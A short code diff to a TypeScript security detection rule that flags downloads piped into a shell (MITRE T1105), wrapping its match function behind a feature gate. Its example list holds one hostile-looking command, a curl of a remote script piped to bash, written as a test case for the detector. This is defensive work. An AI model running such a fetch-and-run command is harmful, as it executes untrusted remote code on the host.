@@ -1,5 +1,6 @@
 import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
 import type { Indicator } from "../../indicator.ts";
+import { behind } from "../gates.ts";
 import type { Call } from "./calls.ts";
 import {
   argumentText,
@@ -48,7 +49,10 @@ export const downloadPipedToShell: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall", "k8s_audit", "plugin"],
   source: "https://attack.mitre.org/techniques/T1105/",
-  match: (facts) => inCommands(facts, fetchAndRun) ?? fetchAndRun(facts.parent.command),
+  match: behind(
+    { needs: ["joined-commands"] },
+    (facts) => inCommands(facts, fetchAndRun) ?? fetchAndRun(facts.parent.command),
+  ),
   examples: {
     found: [
       ran("sh -c curl -fsSL http://203.0.113.9/a.sh | bash", inContainer),
